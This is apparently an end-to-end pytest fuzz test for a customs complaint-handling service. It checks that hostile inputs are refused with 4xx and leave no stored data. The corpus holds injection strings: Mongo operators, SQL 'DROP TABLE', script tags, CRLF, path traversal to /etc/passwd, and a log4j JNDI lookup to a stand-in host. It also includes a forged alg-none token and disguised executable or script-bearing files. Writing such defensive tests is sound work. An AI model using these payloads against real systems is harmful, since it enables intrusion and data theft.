"""A hostile corpus against the running services: oversized bodies, wrong types, deep JSON, odd
Unicode, injection strings and disguised files. Every request must get a clear 4xx (never a 5xx,
never a 2xx) and change nothing: after the corpus (and one valid sentinel complaint sent behind
it, so anything accepted would have had time to flow), the stack's topics hold exactly the events
of the two valid complaints, the registry holds exactly those two, and no evidence object exists.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from aiokafka import AIOKafkaConsumer, TopicPartition

from sipuma.shared import topics
from sipuma.shared.auth import Role
from tests.e2e.stack import OFFICE, Stack
from tests.harness.endpoints import Endpoints
from tests.harness.state import eventually_sync

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(600)]

OTHER_OFFICE = "KPPBC-TMP-JAYAPURA"
DEEP = 10_000
MIB = 1024 * 1024


def valid_complaint(**overrides: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "channel": "in_person",
        "received_at": datetime.now(UTC).isoformat(),
        "complainant": {
            "name": "Ni Luh Putu Ayu",
            "address": "Jl. Sunset Road No. 8, Kuta, Badung",
            "phone": "0812 3456 7890",
        },
        "elements": {
            "what": "Petugas meminta uang tambahan untuk mempercepat pemeriksaan barang.",
            "who": [{"name": "Budi S.", "position": "Pemeriksa"}],
            "when": {"kind": "date", "date": "2026-11-20"},
            "where": "Ruang pemeriksaan fisik, Terminal 3",
            "how": "Disampaikan secara lisan saat pemeriksaan koper.",
        },
        "paper_archive_ref": "Lemari UKI-2, map 11/2026",
    }
    body.update(overrides)
    return body


def with_complainant(**fields: Any) -> dict[str, Any]:
    body = valid_complaint()
    body["complainant"] = {**body["complainant"], **fields}
    return body


def with_elements(**fields: Any) -> dict[str, Any]:
    body = valid_complaint()
    body["elements"] = {**body["elements"], **fields}
    return body


def raw(body: dict[str, Any], swap: tuple[str, str]) -> bytes:
    """`body` as JSON text with the placeholder `swap[0]` replaced by raw JSON text `swap[1]`
    (for escapes json.dumps would never write, such as a lone surrogate)."""
    return json.dumps(body).replace(json.dumps(swap[0]), swap[1]).encode()


def deep_json(levels: int) -> bytes:
    return b'{"a":' * levels + b"1" + b"}" * levels


def deep_list(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


# (label, body bytes) for POST /v1/complaints: each must be refused with a 4xx.
COMPLAINTS: list[tuple[str, bytes]] = [
    # oversized
    ("oversized 2 MiB body", json.dumps(with_elements(what="A" * (2 * MIB))).encode()),
    ("oversized field", json.dumps(with_elements(what="A" * 10_001)).encode()),
    ("50,000 reported employees", json.dumps(with_elements(who=[{"name": "A"}] * 50_000)).encode()),
    # wrong types
    ("channel is a number", json.dumps(valid_complaint(channel=5)).encode()),
    ("complainant is a string", json.dumps(valid_complaint(complainant="x")).encode()),
    ("received_at is a list", json.dumps(valid_complaint(received_at=[2026, 11, 20])).encode()),
    (
        "received_at without zone",
        json.dumps(valid_complaint(received_at="2026-11-20T10:00")).encode(),
    ),
    ("received_at as Unix seconds", json.dumps(valid_complaint(received_at=1795853163)).encode()),
    ("elements is a list", json.dumps(valid_complaint(elements=[])).encode()),
    ("who is an object", json.dumps(with_elements(who={"name": "A"})).encode()),
    ("body is a list", b"[]"),
    ("body is a string", b'"pengaduan"'),
    ("body is null", b"null"),
    ("empty body", b""),
    ("not JSON", b"channel=in_person&name=x"),
    ("truncated JSON", json.dumps(valid_complaint()).encode()[:-7]),
    ("NaN date", json.dumps(valid_complaint()).replace('"2026-11-20"', "NaN").encode()),
    ("huge number", json.dumps(valid_complaint()).replace('"in_person"', "1" * 5000).encode()),
    ("unknown field", json.dumps(valid_complaint(is_admin=True)).encode()),
    ("duplicate-key smuggling", b'{"channel":"in_person","channel":{"$gt":""}}'),
    # deep nesting
    (f"{DEEP} nested objects", deep_json(DEEP)),
    (f"{DEEP} nested lists", deep_list(DEEP)),
    (
        f"{DEEP} nested objects inside a field",
        json.dumps(with_elements(what="@@")).replace('"@@"', deep_json(DEEP).decode()).encode(),
    ),
    # odd Unicode
    ("RTL override in name", json.dumps(with_complainant(name="Ayu\u202egnp.exe")).encode()),
    ("NUL in name", json.dumps(with_complainant(name="Ayu\u0000Putu")).encode()),
    ("emoji name", json.dumps(with_complainant(name="😀😀😀")).encode()),
    ("zero-width name", json.dumps(with_complainant(name="\u200b\u200b")).encode()),
    ("lone high surrogate in name", raw(with_complainant(name="@@"), ("@@", r'"Ayu\ud800"'))),
    ("lone low surrogate in what", raw(with_elements(what="@@"), ("@@", r'"uang \udfff"'))),
    (
        "lone surrogate in office code",
        raw(valid_complaint(office_code="@@"), ("@@", r'"KPUBC\ud83d"')),
    ),
    (
        "invalid UTF-8 bytes",
        json.dumps(with_complainant(name="@@")).encode().replace(b"@@", b"\xff\xfe"),
    ),
    (
        "overlong UTF-8 slash",
        json.dumps(with_complainant(name="@@")).encode().replace(b"@@", b"\xc0\xaf"),
    ),
    ("UTF-16 body", json.dumps(valid_complaint(channel=5)).encode("utf-16")),
    ("emoji-only phone", json.dumps(with_complainant(phone="☎️📞")).encode()),
    ("emoji after a phone", json.dumps(with_complainant(phone="081234567890😀")).encode()),
    ("phone in a URI", json.dumps(with_complainant(phone="tel:081234567890")).encode()),
    ("Arabic-Indic digits NIK", json.dumps(with_complainant(nik="٣١٧١٠١١٥٠٨٩٠١٠٠١")).encode()),
    # injection strings
    ("Mongo operator office", json.dumps(valid_complaint(office_code={"$gt": ""})).encode()),
    ("Mongo operator name", json.dumps(with_complainant(name={"$ne": None})).encode()),
    (
        "Mongo operator channel",
        json.dumps(valid_complaint(channel={"$in": ["in_person"]})).encode(),
    ),
    ("$where office", json.dumps(valid_complaint(office_code="'; return true; var x='")).encode()),
    ("dotted / dollar office", json.dumps(valid_complaint(office_code="$office.code")).encode()),
    ("SQL in name", json.dumps(with_complainant(name="Ayu'; DROP TABLE pengaduan; --")).encode()),
    ("script in name", json.dumps(with_complainant(name="<script>alert(1)</script>")).encode()),
    ("script in e-mail", json.dumps(with_complainant(email="<script>@x.id")).encode()),
    ("CRLF in e-mail", json.dumps(with_complainant(email="a@x.id\r\nBcc: all@x.id")).encode()),
    ("path traversal office", json.dumps(valid_complaint(office_code="../../etc/passwd")).encode()),
    ("log4j style", json.dumps(with_complainant(name="${jndi:ldap://x/a}")).encode()),
    ("format string", json.dumps(with_complainant(name="%s%s%s%n")).encode()),
    ("other office", json.dumps(valid_complaint(office_code=OTHER_OFFICE)).encode()),
]

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da63f8cfc0f01f0005000201a5f1c7"
    "e40000000049454e44ae426082"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ZIP = (
    b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 16 + b"\x07\x00\x00\x00evil.sh" + b"#!/bin/sh"
)
PDF_JS = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"

# (label, query, headers, body) for POST /v1/complaints/{id}/evidence: each must be refused.
FILES: list[tuple[str, dict[str, str], dict[str, str], bytes]] = [
    ("EXE as photo", {"kind": "photo", "filename": "foto.png"}, {"Content-Type": "image/png"}, EXE),
    (
        "ELF as PDF",
        {"kind": "scan", "filename": "scan.pdf"},
        {"Content-Type": "application/pdf"},
        ELF,
    ),
    ("HTML as JPEG", {"kind": "photo", "filename": "a.jpg"}, {"Content-Type": "image/jpeg"}, HTML),
    (
        "HTML as text",
        {"kind": "soft_copy", "filename": "a.txt"},
        {"Content-Type": "text/plain"},
        HTML,
    ),
    (
        "SVG with script",
        {"kind": "photo", "filename": "a.svg"},
        {"Content-Type": "image/svg+xml"},
        SVG,
    ),
    (
        "ZIP as DOCX",
        {"kind": "soft_copy", "filename": "a.docx"},
        {"Content-Type": "application/octet-stream"},
        ZIP,
    ),
    (
        "PNG named .exe",
        {"kind": "photo", "filename": "foto.exe"},
        {"Content-Type": "image/png"},
        PNG,
    ),
    (
        "PNG declared PDF",
        {"kind": "scan", "filename": "scan.pdf"},
        {"Content-Type": "application/pdf"},
        PNG,
    ),
    ("empty file", {"kind": "photo", "filename": "a.png"}, {"Content-Type": "image/png"}, b""),
    (
        "NUL in file name",
        {"kind": "photo", "filename": "a\x00.exe"},
        {"Content-Type": "image/png"},
        EXE,
    ),
    (
        "traversal file name",
        {"kind": "photo", "filename": "../../etc/passwd"},
        {"Content-Type": "image/png"},
        EXE,
    ),
    (
        "RTL file name",
        {"kind": "photo", "filename": "foto\u202egnp.exe"},
        {"Content-Type": "image/png"},
        EXE,
    ),
    ("wrong kind", {"kind": "$gt", "filename": "a.png"}, {"Content-Type": "image/png"}, PNG),
    (
        "oversized photo",
        {"kind": "photo", "filename": "big.png"},
        {"Content-Type": "image/png"},
        PNG + b"\x00" * (2 * MIB),
    ),
    (
        "PDF with JavaScript as photo",
        {"kind": "photo", "filename": "a.jpg"},
        {"Content-Type": "image/jpeg"},
        PDF_JS,
    ),
]


class Guarded(httpx.Client):
    """A client that turns a dropped connection or a timeout into a 599 answer, so one broken
    request is reported with the others instead of ending the test."""

    def request(self, method: str, url: Any, **kwargs: Any) -> httpx.Response:
        try:
            return super().request(method, url, **kwargs)
        except (httpx.TransportError, httpx.DecodingError) as exc:
            return httpx.Response(599, text=f"no answer: {exc!r}")


@pytest.fixture(scope="module")
def http() -> Iterator[httpx.Client]:
    with Guarded(timeout=60) as client:
        yield client


def count_messages(bootstrap: str, prefix: str) -> dict[str, int]:
    """Messages per topic of this stack (end offset minus beginning, every partition)."""
    import asyncio

    async def count() -> dict[str, int]:
        consumer = AIOKafkaConsumer(bootstrap_servers=bootstrap, group_id=None)
        await consumer.start()
        try:
            meta = await consumer._client.fetch_all_metadata()
            counts: dict[str, int] = {}
            for topic in sorted(t for t in meta.topics() if t.startswith(prefix)):
                tps = [TopicPartition(topic, p) for p in meta.partitions_for_topic(topic) or ()]
                ends = await consumer.end_offsets(tps)
                starts = await consumer.beginning_offsets(tps)
                counts[topic[len(prefix) :]] = sum(ends[tp] - starts[tp] for tp in tps)
            return counts
        finally:
            await consumer.stop()

    return asyncio.run(count())


def record_valid(http: httpx.Client, stack: Stack, headers: dict[str, str]) -> str:
    """One valid complaint, followed until intake and evidence both know it is registered."""
    r = http.post(f"{stack.url('intake')}/v1/complaints", json=valid_complaint(), headers=headers)
    assert r.status_code in (201, 202), r.text
    cid: str = r.json()["complaint_id"]
    eventually_sync(
        "registered",
        lambda: (
            http.get(f"{stack.url('intake')}/v1/complaints/{cid}/status", headers=headers)
            .json()
            .get("status")
            == "registered"
        ),
    )
    eventually_sync(
        "evidence knows the complaint",
        lambda: (
            http.get(
                f"{stack.url('evidence')}/v1/complaints/{cid}/evidence", headers=headers
            ).status_code
            == 200
        ),
    )
    return cid


def refused(response: httpx.Response) -> str | None:
    """None when `response` is a clear 4xx; else what is wrong with it."""
    if not 400 <= response.status_code < 500:
        return f"{response.status_code}: {response.text[:300]}"
    if response.status_code in (401, 404, 405):
        return None
    try:
        problem = response.json()
    except ValueError:
        return f"{response.status_code} without a JSON problem body: {response.text[:200]}"
    if not (problem.get("messages", {}).get("id") and problem.get("messages", {}).get("en")):
        return f"{response.status_code} without Indonesian and English messages: {problem}"
    return None


def test_hostile_corpus_changes_nothing(
    fuzz_stack: Stack, endpoints: Endpoints, http: httpx.Client
) -> None:
    stack = fuzz_stack
    intake, registry, evidence = (stack.url(n) for n in ("intake", "registry", "evidence"))
    receiver = {"Authorization": f"Bearer {stack.token()}"}
    supervisor = {
        "Authorization": "Bearer "
        + stack.token(roles=(Role.SUPERVISOR, Role.COMPLIANCE), officer="197501012000031002")
    }
    json_type = {"Content-Type": "application/json"}
    baseline = record_valid(http, stack, receiver)
    before = count_messages(endpoints.kafka_bootstrap, stack.prefix)

    problems: list[str] = []

    def expect_refused(label: str, response: httpx.Response) -> None:
        wrong = refused(response)
        if wrong:
            problems.append(f"{label}: {wrong}")

    # intake: every hostile complaint body
    for label, body in COMPLAINTS:
        r = http.post(f"{intake}/v1/complaints", content=body, headers={**receiver, **json_type})
        expect_refused(f"POST /v1/complaints ({label})", r)
    # the same bodies as supplements / contact / employees of the real complaint
    for label, body in COMPLAINTS[::3]:
        for path, method in (
            ("supplements", "POST"),
            ("tracking-contact", "PUT"),
            ("reported-employees", "POST"),
            ("register-number-communication", "POST"),
        ):
            r = http.request(
                method,
                f"{intake}/v1/complaints/{baseline}/{path}",
                content=body,
                headers={**receiver, **json_type},
            )
            expect_refused(f"{method} {path} ({label})", r)
    amendments: tuple[tuple[str, dict[str, Any] | None], ...] = (
        ("odd supplement kind", {"kind": {"$gt": ""}, "text": "x"}),
        ("lone surrogate correction", None),
        ("script in supplement with bad kind", {"kind": "<script>", "text": "<script>"}),
        ("contact with Mongo operator", {"email": {"$ne": None}}),
        ("contact with landline for SMS", {"mobile": "021 555 1234"}),
        ("contact with RTL e-mail", {"email": "a\u202e@x.id"}),
        # On a new complaint a bad channel no longer costs the complaint (it is saved and the
        # channel refused in the answer); a correction with no valid channel changes nothing.
        ("contact with header injection", {"email": "a@x.id\nBcc: b@x.id"}),
        ("employees with bad NIP", {"employees": [{"name": "Budi", "nip": "12345"}]}),
    )
    for label, amendment in amendments:
        content = (
            b'{"kind":"correction","corrects":"what","text":"x","reason":"\\udc00"}'
            if amendment is None
            else json.dumps(amendment).encode()
        )
        path = (
            "tracking-contact"
            if "contact" in label
            else "reported-employees"
            if "employees" in label
            else "supplements"
        )
        method = "PUT" if path == "tracking-contact" else "POST"
        r = http.request(
            method,
            f"{intake}/v1/complaints/{baseline}/{path}",
            content=content,
            headers={**receiver, **json_type},
        )
        expect_refused(f"{method} {path} ({label})", r)
    # wrong / forged / missing tokens
    for label, headers in (
        ("no token", {}),
        ("garbage token", {"Authorization": "Bearer ' OR 1=1 --"}),
        ("alg none token", {"Authorization": "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."}),
        ("other office's token", {"Authorization": f"Bearer {stack.token(office=OTHER_OFFICE)}"}),
    ):
        r = http.post(
            f"{intake}/v1/complaints", json=valid_complaint(office_code=OFFICE), headers=headers
        )
        expect_refused(f"POST /v1/complaints ({label})", r)
    # intake paths with injection / odd Unicode
    for path in ('{"$gt":""}', "%00", "..%2F..%2Fetc%2Fpasswd", "\u202e", "%ED%A0%80", "😀"):
        r = http.get(f"{intake}/v1/complaints/{path}/status", headers=receiver)
        expect_refused(f"GET status {path!r}", r)

    # registry: staff read API and public tracking with operators, traversal, odd Unicode
    for q in (
        {"office": '{"$gt": ""}'},
        {"office[$ne]": "x"},
        {"status": '{"$ne": null}', "office": OTHER_OFFICE},
        {"page": "0"},
        {"page_size": "100000"},
        {"page": str(10**30)},
        {"from": "0000-00-00"},
        {"channel": "<script>"},
        {"notification_failed": "maybe"},
    ):
        r = http.get(f"{registry}/v1/complaints", params=q, headers=receiver)
        if r.status_code >= 500 or (r.status_code == 200 and r.json()["total"] != 1):
            problems.append(f"GET /v1/complaints {q}: {r.status_code} {r.text[:300]}")
    for number in (
        '{"$gt":""}',
        "%24ne",
        "..%2F..%2F",
        "PGD/%00",
        "\u202e",
        "%ED%A0%80",
        "A" * 5000,
    ):
        r = http.get(f"{registry}/v1/complaints/{number}", headers=supervisor)
        expect_refused(f"GET /v1/complaints/{number[:40]!r}", r)
        r = http.post(
            f"{registry}/v1/complaints/{number}/status",
            json={"status": "closed", "note": "<script>"},
            headers=supervisor,
        )
        expect_refused(f"POST status {number[:40]!r}", r)
    for first, last in (("0001-01-01", "0001-01-01"), ("9999-12-31", "9999-12-31")):
        r = http.get(
            f"{registry}/v1/reports/service-standard",
            params={"from": first, "to": last, "format": "csv"},
            headers=supervisor,
        )
        expect_refused(f"GET service-standard report {first}..{last}", r)
    for ticket in ('{"$ne":null}', "%24gt", "AAAA-AAAA-AAAA-AAAA", "\u202e", "%00", "A" * 10_000):
        r = http.get(f"{registry}/v1/track/{ticket}")
        expect_refused(f"GET /v1/track/{ticket[:40]!r}", r)
    for label, body in (
        ("deep JSON", deep_json(DEEP)),
        ("Mongo operator status", json.dumps({"status": {"$set": {"x": 1}}}).encode()),
        ("lone surrogate note", b'{"status":"closed","note":"\\ud800"}'),
    ):
        # a real register number: what it must not do is change the status
        number = http.get(
            f"{registry}/v1/complaints", params={"office": OFFICE}, headers=supervisor
        ).json()["items"][0]["register_number"]
        r = http.post(
            f"{registry}/v1/complaints/{number}/status",
            content=body,
            headers={**supervisor, **json_type},
        )
        expect_refused(f"POST {number}/status ({label})", r)

    # evidence: disguised files against the real complaint
    for label, query, headers, body in FILES:
        r = http.post(
            f"{evidence}/v1/complaints/{baseline}/evidence",
            params=query,
            content=body,
            headers={**receiver, **headers},
        )
        expect_refused(f"upload ({label})", r)
    r = http.post(
        f"{evidence}/v1/complaints/{baseline}/evidence",
        params={"kind": "photo"},
        content=EXE,
        headers={**receiver, "Content-Type": "image/png", "X-File-Name": "..%2F..%2Fa.png"},
    )
    expect_refused("upload (EXE with X-File-Name traversal)", r)
    r = http.post(
        f"{evidence}/v1/complaints/{uuid.uuid4()}/evidence",
        params={"kind": "photo", "filename": "a.png"},
        content=PNG,
        headers={**receiver, "Content-Type": "image/png"},
    )
    expect_refused("upload to an unknown complaint", r)

    assert not problems, "\n".join(problems)

    # Nothing stored: one valid sentinel behind the corpus, then exactly two complaints' worth.
    sentinel = record_valid(http, stack, receiver)
    after = count_messages(endpoints.kafka_bootstrap, stack.prefix)
    listed = http.get(f"{registry}/v1/complaints", headers=supervisor).json()
    assert {i["complaint_id"] for i in listed["items"]} == {baseline, sentinel}, listed
    assert sorted(int(i["register_number"].rsplit("/", 1)[1]) for i in listed["items"]) == [1, 2]
    expected = {name: n for name, n in before.items() if n}
    # The registry answers every numbered complaint with a duplicates hint (even an empty one).
    numbered = (topics.COMPLAINT_RECEIVED, topics.COMPLAINT_REGISTERED)
    for spec in (*numbered, topics.COMPLAINT_DUPLICATES_HINTED):
        expected[spec.name] = 2
    grown = {t: (before.get(t, 0), n) for t, n in after.items() if n != expected.get(t, 0)}
    assert not grown, f"topics changed beyond the sentinel (before, after): {grown}"
    for cid in (baseline, sentinel):
        items = http.get(f"{evidence}/v1/complaints/{cid}/evidence", headers=receiver).json()
        assert items["items"] == [], items
        detail = http.get(
            f"{registry}/v1/complaints/"
            + next(i["register_number"] for i in listed["items"] if i["complaint_id"] == cid),
            headers=supervisor,
        ).json()
        assert detail["status_history"] == [] and detail["supplements"] == [], detail
        assert detail["contacts"] == [] and detail["evidence"] == [], detail
    objects = stored_objects(endpoints, stack.bucket)
    assert objects == [], f"objects in the evidence bucket: {objects}"


def stored_objects(endpoints: Endpoints, bucket: str) -> list[str]:
    from minio import Minio
    from minio.error import S3Error

    client = Minio(
        endpoints.s3_endpoint,
        access_key=endpoints.s3_access_key,
        secret_key=endpoints.s3_secret_key,
        secure=False,
    )
    try:
        return [o.object_name or "" for o in client.list_objects(bucket, recursive=True)]
    except S3Error as exc:
        if exc.code == "NoSuchBucket":
            return []
        raise
